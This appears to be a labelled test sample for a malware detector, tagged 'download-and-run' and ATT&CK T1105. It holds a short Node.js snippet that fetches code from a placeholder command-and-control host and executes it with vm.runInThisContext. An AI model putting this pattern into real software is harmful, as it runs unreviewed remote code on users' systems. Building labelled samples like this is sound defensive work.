// expect: download-and-run | source: T1105
function read(url) {
  return new Promise((resolve, reject) => {
    require("https").get(url, (answer) => {
      const parts = [];
      answer.on("data", (part) => parts.push(part));
      answer.on("end", () => resolve(Buffer.concat(parts).toString()));
    }).on("error", reject);
  });
}
read("https://c2.example.invalid/b").then((code) => require("vm").runInThisContext(code));
